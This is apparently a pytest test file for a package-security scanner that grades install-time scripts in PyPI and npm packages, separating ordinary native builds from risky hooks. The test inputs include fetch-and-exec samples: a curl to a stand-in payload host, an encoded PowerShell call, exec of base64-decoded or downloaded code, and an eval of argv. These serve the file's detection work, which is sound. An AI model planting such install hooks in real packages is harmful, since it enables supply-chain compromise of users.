"""Install-time code judged by what it does: a build that compiles, queries and runs its own
scripts is customisation (monitor); a started script that fetches code still blocks."""

from __future__ import annotations

from pathlib import Path

import pytest

from depshield.alerts.build_steps import install_is_quiet
from depshield.alerts.grading import THREATS
from depshield.analyzers.python import PythonAnalyzer
from depshield.api import analyze_artifact
from depshield.model import Finding

FIXTURES = Path(__file__).parent.parent / "fixtures"
PATHS = frozenset({"setup.py", "vendor/libfoo/autogen.sh", "build_bundled.sh", "tests/run.py"})


def alerts_of(group: str, name: str) -> dict[tuple[str, str | None, int | None], str]:
    result = analyze_artifact(FIXTURES / group / name)
    return {(a.type, a.file, a.line): a.action for a in result.alerts}


def test_native_build_setup_is_customisation_not_a_warning() -> None:
    result = analyze_artifact(FIXTURES / "lookalikes" / "pypi-setup-native-build")
    assert result.verdict == "pass", [(a.type, a.file, a.line, a.action) for a in result.alerts]
    found = {(a.type, a.file, a.line): a for a in result.alerts}
    assert found[("installScripts", "setup.py", 33)].action == "monitor"
    # the root .pth runs at every start, but only imports the package's own hook
    assert found[("installScripts", "nativelib-hook.pth", 1)].action == "monitor"
    nested = found[("installScripts", "nativelib_tests/data/nspkg/ns-1.0-nspkg.pth", 1)]
    assert nested.action == "monitor" and "site-packages" in str(nested.props["note"])
    assert not {a.type for a in result.alerts} & THREATS


def test_setup_starting_a_shipped_script_that_fetches_code_blocks() -> None:
    found = alerts_of("incidents", "pypi-setup-script-fetches")
    assert found[("remoteCodeDownload", "build.sh", 2)] == "error"


def spawn(command: str, args: str | None = None) -> Finding:
    props: dict[str, object] = {"command": command}
    if args is not None:
        props["args"] = args
    return Finding("signal:spawn", "setup.py", 5, command, props, True)


@pytest.mark.parametrize(
    "finding",
    [
        spawn("brew --prefix openssl"),
        spawn("touch", "configure.ac Makefile.in"),
        spawn("/bin/sh autogen.sh"),
        spawn("./build_bundled.sh"),
        spawn("python -Wd tests/run.py"),
        spawn("pip install ."),
        spawn("pkg-config --cflags libffi"),
    ],
)
def test_build_commands_keep_install_quiet(finding: Finding) -> None:
    assert install_is_quiet([finding], PATHS)


@pytest.mark.parametrize(
    "finding",
    [
        spawn("brew install wget"),
        spawn("pip install requests"),
        spawn("python -m pip install colorsx"),
        spawn("sh missing.sh"),
        spawn("echo 'You have been pwned' > /tmp/pwned"),
        spawn("curl -s https://payload.example.invalid/x"),
        spawn("powershell", "-enc AAAA"),
    ],
)
def test_other_commands_make_install_code_risky(finding: Finding) -> None:
    assert not install_is_quiet([finding], PATHS)


def exec_signals(code: str) -> list[tuple[int, str | None]]:
    fa = PythonAnalyzer().analyze("setup.py", code.encode())
    return [(f.line, f.props.get("code")) for f in fa.findings if f.type == "signal:exec"]


def test_exec_of_the_packages_own_file_is_plain_code() -> None:
    code = (
        "import os\n"
        "with open(os.path.join('pkg', 'version.py')) as fp:\n"
        "    exec(compile(fp.read(), 'version.py', 'exec'), {}, locals())\n"
    )
    assert set(exec_signals(code)) == {(3, "plain")}
    plain = Finding("signal:exec", "setup.py", 3, "exec(...)", {"how": "exec", "code": "plain"})
    assert install_is_quiet([plain])


def test_exec_of_decoded_or_downloaded_code_is_no_plain_code() -> None:
    decoded = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLmdldGN3ZCgpCg=='))\n"
    fetched = (
        "import urllib.request\nexec(urllib.request.urlopen('https://x.example.invalid').read())\n"
    )
    assert exec_signals(decoded) == [(2, None)]
    assert exec_signals(fetched) == [(2, None)]
    assert not install_is_quiet(
        [Finding("signal:exec", "setup.py", 2, "exec(...)", {"how": "exec"})]
    )


def npm_package(tmp_path: Path, scripts: dict[str, str], files: dict[str, str]) -> Path:
    import json

    root = tmp_path / "pkg"
    manifest = {"name": "hooked", "version": "1.0.0", "license": "MIT", "scripts": scripts}
    for path, text in {"package.json": json.dumps(manifest, indent=2), **files}.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)
    return root


def test_npm_native_build_and_own_banner_are_build_steps() -> None:
    for name, line in (("npm-native-addon", None), ("npm-postinstall-banner", 6)):
        result = analyze_artifact(FIXTURES / "lookalikes" / name)
        hooks = [a for a in result.alerts if a.type == "installScripts"]
        assert hooks and {a.action for a in hooks} == {"monitor"}, name
        if line is not None:
            assert (hooks[0].file, hooks[0].line) == ("package.json", line)


@pytest.mark.parametrize(
    ("script", "files"),
    [
        ("node lib/README.md", {"lib/README.md": "console.log('docs')\n"}),  # code as docs
        ("calc.exe", {}),
        ("node scripts/preinstall.js", {}),  # a file the package does not ship
        ("npm install left-pad-extra", {}),
        ("node setup.js", {"setup.js": "eval(process.argv[2])\n"}),
    ],
)
def test_npm_install_steps_that_are_no_build_still_warn(
    tmp_path: Path, script: str, files: dict[str, str]
) -> None:
    result = analyze_artifact(npm_package(tmp_path, {"preinstall": script}, files))
    hooks = {(a.file, a.line): a.action for a in result.alerts if a.type == "installScripts"}
    assert hooks.get(("package.json", 6)) in ("warn", "error"), hooks
